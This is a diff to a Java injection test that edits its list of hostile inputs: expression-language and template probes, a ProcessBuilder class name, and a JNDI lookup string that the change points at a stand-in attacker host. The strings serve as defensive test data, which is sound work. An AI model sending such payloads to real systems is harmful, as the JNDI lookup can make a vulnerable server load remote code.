@@ -28,9 +28,10 @@ class InjectionTest {
 
     private static final String CANARY = InjectionCanary.class.getName();
 
+    // No hostile string holds personal data such as an IP address: SHR-004 would rightly find it in a share.
     static final List<String> HOSTILE = List.of(
             "${1+1}", "#{1+1}", "{jakarta.validation.constraints.NotNull.message}", "{rule.AGR-001}",
-            "{validatedValue}", "%s%n%d", "@class", "java.lang.ProcessBuilder", "${jndi:ldap://127.0.0.1/a}",
+            "{validatedValue}", "%s%n%d", "@class", "java.lang.ProcessBuilder", "${jndi:ldap://attacker.example/a}",
             "${java:version}", "{0}", "${validatedValue}", CANARY);
 
     private static final String PLAIN = "zzzz";
